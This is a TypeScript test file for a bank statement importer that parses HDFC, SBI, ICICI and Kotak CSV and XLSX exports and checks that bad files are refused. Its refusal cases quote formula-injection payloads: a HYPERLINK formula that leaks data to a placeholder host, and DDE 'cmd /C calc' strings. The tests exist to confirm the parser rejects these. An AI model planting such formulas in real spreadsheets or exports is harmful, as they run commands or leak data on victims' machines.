import { readFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { STATEMENT_MAX_BYTES, STATEMENT_MAX_ROWS } from '../../../contracts/reconcile.js';
import { AppError } from '../../lib/errors.js';
import { readStatement, unpackedSize } from './statement.read.js';

const fixture = (name: string) => readFile(new URL(`../../../tests/fixtures/statements/${name}`, import.meta.url));

/** The refusal a read ends in: its code, status and message. */
async function refusal(read: Promise<unknown>): Promise<{ code: string; status: number; message: string }> {
  const err = await read.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(AppError);
  const { code, status, message } = err as AppError;
  return { code, status, message };
}

const HDFC_HEADER = 'Date,Narration,Chq./Ref.No.,Value Dt,Withdrawal Amt.,Deposit Amt.,Closing Balance';

describe('readStatement: the table of a bank export', () => {
  it('finds the header after the preamble and stops at the summary (HDFC CSV)', async () => {
    const table = await readStatement(await fixture('hdfc.csv'), 'hdfc.csv');
    expect(table.headerRow).toBe(17);
    expect(table.headers).toEqual(HDFC_HEADER.split(','));
    expect(table.rowNumbers).toEqual([19, 20, 21, 22, 23, 24, 25, 26, 27]);
    expect(table.rows[0]).toEqual([
      '10/11/26',
      'UPI-RAHUL DEMO-rahul.demo@okdemo-SBIN0009999-631410234501-RAQ7M2K9PX',
      '0000631410234501',
      '10/11/26',
      '',
      '500.00',
      '1,00,500.00',
    ]);
  });

  it('reads an XLSX: text and date cells, numbers as amounts, a blank row and the closing words end it (SBI)', async () => {
    const table = await readStatement(await fixture('sbi.xlsx'), 'sbi.xlsx');
    expect(table.headerRow).toBe(18);
    expect(table.headers).toEqual(['Txn Date', 'Value Date', 'Description', 'Ref No./Cheque No.', 'Debit', 'Credit', 'Balance']);
    expect(table.rows).toHaveLength(8);
    expect(table.rows[3]!.slice(0, 2)).toEqual(['11 Nov 2026', '2026-11-11']);
    expect(table.rows[3]!.slice(5)).toEqual(['300', '53200']);
  });

  it('names an unnamed column and numbers a repeated one (ICICI, Kotak)', async () => {
    expect((await readStatement(await fixture('icici.csv'), 'icici.csv')).headers[0]).toBe('Column A');
    expect((await readStatement(await fixture('kotak.csv'), 'kotak.csv')).headers.slice(5)).toEqual(['Dr / Cr', 'Balance', 'Dr / Cr (2)']);
  });

  it('counts a quoted line break in the row numbers, and reads ; or tab separated exports', async () => {
    const multi = `Bank\n${HDFC_HEADER}\n10/11/26,"UPI-A\nB",,10/11/26,,500.00,1\n11/11/26,CASH,,11/11/26,,100.00,2\n`;
    expect((await readStatement(Buffer.from(multi), 's.csv')).rowNumbers).toEqual([3, 5]);
    const semi = `Txn Date;Description;Credit\n10/11/2026;UPI/631410234501/x;1.000,00\n`;
    expect((await readStatement(Buffer.from(semi), 's.csv')).rows).toEqual([['10/11/2026', 'UPI/631410234501/x', '1.000,00']]);
    const tabs = `Txn Date\tDescription\tCredit\n10/11/2026\tCASH, DEPOSIT\t500\n`;
    expect((await readStatement(Buffer.from(tabs), 's.csv')).rows).toEqual([['10/11/2026', 'CASH, DEPOSIT', '500']]);
  });

  it('reads UTF-16 (with its mark) and Windows-1252 text', async () => {
    const text = `\uFEFFTxn Date\tDescription\tCredit\n10/11/2026\tCAFÉ ₹\t500\n`;
    expect((await readStatement(Buffer.from(text, 'utf16le'), 's.txt')).rows[0]![1]).toBe('CAFÉ ₹');
    const latin = Buffer.from('Txn Date,Description,Credit\n10/11/2026,CAF\xc9,500\n', 'latin1');
    expect((await readStatement(latin, 's.csv')).rows[0]![1]).toBe('CAFÉ');
  });

  it('continues after a page break that repeats the header', async () => {
    const paged = `${HDFC_HEADER}\n10/11/26,A,,10/11/26,,1.00,1\n,,,,,,\nPage 2,,,,,,\n${HDFC_HEADER}\n11/11/26,B,,11/11/26,,2.00,3\n,,,,,,\nSTATEMENT SUMMARY,,,,,,\n`;
    const table = await readStatement(Buffer.from(paged), 'p.csv');
    expect(table.rows.map((r) => r[1])).toEqual(['A', 'B']);
    expect(table.rowNumbers).toEqual([2, 6]);
  });

  it('takes a row of names above a transaction for the header of a layout it does not know, so its columns can be chosen', async () => {
    const odd = Buffer.from('Demo Bank,,\nWhen,What,Paid in\n10/11/2026,UPI/631410234501/x,500\n,,\nTotal,,500\n');
    expect(await readStatement(odd, 'odd.csv')).toMatchObject({ headers: ['When', 'What', 'Paid in'], rowNumbers: [3] });
  });

  it('finds the header by the mapping it is given, past a row that only looks like one', async () => {
    const odd = Buffer.from('Opened,Branch,Limit\n01/01/2026,DEMO NAGAR,0.00\nWhen,What,Paid in\n10/11/2026,UPI/631410234501/x,500\n');
    expect((await readStatement(odd, 'odd.csv')).headers).toEqual(['Opened', 'Branch', 'Limit']);
    expect(await readStatement(odd, 'odd.csv', { date: 'When', credit: 'Paid in' })).toMatchObject({ headers: ['When', 'What', 'Paid in'], rowNumbers: [4] });
    await expect(readStatement(odd, 'odd.csv', { date: 'Date', credit: 'Credit' })).resolves.toMatchObject({ headerRow: 1 });
  });

  it('a statement with a header and no transactions has no rows', async () => {
    expect((await readStatement(Buffer.from(`${HDFC_HEADER}\n,,,,,,\nSTATEMENT SUMMARY,,,,,,\n`), 'e.csv')).rows).toEqual([]);
  });
});

describe('readStatement: refusals', () => {
  it.each([
    ['statement.pdf', 'STATEMENT_FORMAT', '"statement.pdf" is a PDF, which cannot be read for transactions. Download the statement'],
    ['screenshot.png', 'STATEMENT_FORMAT', '"screenshot.png" is an image: a photo or screenshot of a statement cannot be read.'],
    [
      'old-excel.xls',
      'STATEMENT_FORMAT',
      '"old-excel.xls" is an old Excel (.xls) file or a password-protected workbook. Open it in Excel and save it as .xlsx without a password',
    ],
    ['web-page.xls', 'STATEMENT_FORMAT', '"web-page.xls" is a web page (HTML or XML), not a CSV or Excel file.'],
    ['not-a-workbook.xlsx', 'STATEMENT_FORMAT', '"not-a-workbook.xlsx" is a damaged Excel file: download the statement again.'],
    ['empty.csv', 'STATEMENT_EMPTY', '"empty.csv" is empty.'],
    ['blank.csv', 'STATEMENT_EMPTY', '"blank.csv" is empty.'],
    ['no-header.csv', 'STATEMENT_NO_HEADER', 'No row of "no-header.csv" names its columns (a date, a narration, a credit amount)'],
    ['unclosed-quote.csv', 'STATEMENT_FORMAT', '"unclosed-quote.csv" could not be read as CSV: a quoted value is never closed, so the file ends inside it.'],
    ['formula.csv', 'STATEMENT_FORMULA', 'Row 5, column B (Narration) holds a formula ("=HYPERLINK("http://example.invalid/?leak…").'],
    ['formula-plus.csv', 'STATEMENT_FORMULA', `Row 5, column B (Narration) holds a formula ("+cmd|' /C calc'!A0").`],
    ['formula-minus.csv', 'STATEMENT_FORMULA', `Row 5, column C (Chq./Ref.No.) holds a formula ("-2+3+cmd|' /C calc'!A0").`],
    ['formula-at.csv', 'STATEMENT_FORMULA', `Row 5, column B (Narration) holds a formula ("@SUM(1+1)*cmd|' /C calc'!A0").`],
    ['formula.xlsx', 'STATEMENT_FORMULA', 'Row 20, column G (Balance) holds a formula ("=G19+F20").'],
  ])('%s is refused: %s', async (name, code, message) => {
    const refused = await refusal(readStatement(await fixture(`bad/${name}`), name));
    expect(refused.code).toBe(code);
    expect(refused.status).toBe(400);
    expect(refused.message).toContain(message);
  });

  it('a formula refusal says what to do', async () => {
    const { message } = await refusal(readStatement(await fixture('bad/formula.csv'), 'formula.csv'));
    expect(message).toMatch(/A statement must hold values only: download it again from the bank/);
  });

  it('a file over the limit is refused before it is parsed, whatever it holds', async () => {
    const big = Buffer.alloc(STATEMENT_MAX_BYTES + 1, 0x41);
    big.write('%PDF-1.4');
    const refused = await refusal(readStatement(big, 'big.pdf'));
    expect(refused).toMatchObject({ code: 'FILE_TOO_LARGE', status: 413 });
    expect(refused.message).toBe('The statement is too large. The limit is 5 MB: export a shorter period.');
    const line = '10/11/2026,UPI/631410777001/RAX2N9V4KB,"2,500.00"\n';
    const atLimit = Buffer.alloc(STATEMENT_MAX_BYTES, ' ');
    atLimit.write(`Txn Date,Description,Credit\n${line.repeat(Math.floor(STATEMENT_MAX_BYTES / line.length) - 1)}`);
    await expect(readStatement(atLimit, 'at-limit.csv')).rejects.toMatchObject({ code: 'STATEMENT_TOO_MANY_ROWS' });
  });

  it('a CSV line longer than any statement line is refused, not parsed slowly', async () => {
    const refused = await refusal(readStatement(Buffer.alloc(STATEMENT_MAX_BYTES, 0x41), 'one-line.csv'));
    expect(refused).toMatchObject({
      code: 'STATEMENT_FORMAT',
      message: '"one-line.csv" could not be read as CSV: line 1 is longer than any statement line (64 KB).',
    });
  });

  it(`more than ${STATEMENT_MAX_ROWS} transactions is refused; that many is read`, async () => {
    const rows = (n: number) => `Bank,,\nTxn Date,Description,Credit\n${Array.from({ length: n }, (_, i) => `10/11/2026,CASH ${i},1.00`).join('\n')}\n`;
    expect((await readStatement(Buffer.from(rows(STATEMENT_MAX_ROWS)), 'ok.csv')).rows).toHaveLength(STATEMENT_MAX_ROWS);
    const refused = await refusal(readStatement(Buffer.from(rows(STATEMENT_MAX_ROWS + 1)), 'many.csv'));
    expect(refused).toMatchObject({
      code: 'STATEMENT_TOO_MANY_ROWS',
      message: '"many.csv" has more than 20,000 transactions, the most one import takes. Export a shorter period.',
    });
  });

  it(`an XLSX of more than ${STATEMENT_MAX_ROWS} transactions is refused`, async () => {
    const { default: ExcelJS } = await import('exceljs');
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Statement');
    sheet.addRow(['Txn Date', 'Description', 'Credit']);
    for (let i = 0; i <= STATEMENT_MAX_ROWS; i++) sheet.addRow(['10 Nov 2026', `CASH ${i}`, 1]);
    const bytes = Buffer.from(await workbook.xlsx.writeBuffer());
    expect(await refusal(readStatement(bytes, 'many.xlsx'))).toMatchObject({ code: 'STATEMENT_TOO_MANY_ROWS' });
  });

  it('a number after + or -, a rule line and a lone dash are values, not formulas', async () => {
    const csv = `${HDFC_HEADER}\n-----,-----,-----,-----,-----,-----,-----\n10/11/26,CASH,+91 90000 00001,10/11/26,-500.00,+1000.00,"-1,000.00 Dr"\n`;
    expect((await readStatement(Buffer.from(csv), 'ok.csv')).rows).toHaveLength(1);
  });

  it('an XLSX tells how much it unpacks to', async () => {
    const bytes = await fixture('sbi.xlsx');
    expect(unpackedSize(bytes)).toBeGreaterThan(bytes.length);
    expect(unpackedSize(bytes.subarray(0, bytes.length - 30))).toBeNull();
  });
});
